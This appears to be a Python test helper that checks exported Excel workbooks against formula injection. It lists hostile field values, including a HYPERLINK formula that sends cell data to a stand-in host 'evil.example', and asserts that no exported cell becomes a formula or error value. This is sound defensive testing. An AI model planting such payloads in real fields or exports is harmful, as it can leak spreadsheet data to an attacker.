"""Reading exported workbooks back: the payloads a hostile user could type into a field that
ends up in an export, and the check that none of them became a formula."""

import io

from openpyxl import load_workbook

# Typed into employer, titles, notes, names… Each would be a live formula (or DDE / error
# value) in Excel or LibreOffice if written as such.
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "#N/A",
]
PAYLOAD = PAYLOADS[0]


def workbook(response):
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return load_workbook(io.BytesIO(content))


def cells(wb):
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            yield from row


def assert_no_formulas(wb) -> None:
    formulas = [(c.parent.title, c.coordinate, c.value) for c in cells(wb) if c.data_type == "f"]
    assert formulas == []
    errors = [(c.parent.title, c.coordinate, c.value) for c in cells(wb) if c.data_type == "e"]
    assert errors == []


def texts(wb) -> list[str]:
    return [c.value for c in cells(wb) if isinstance(c.value, str)]
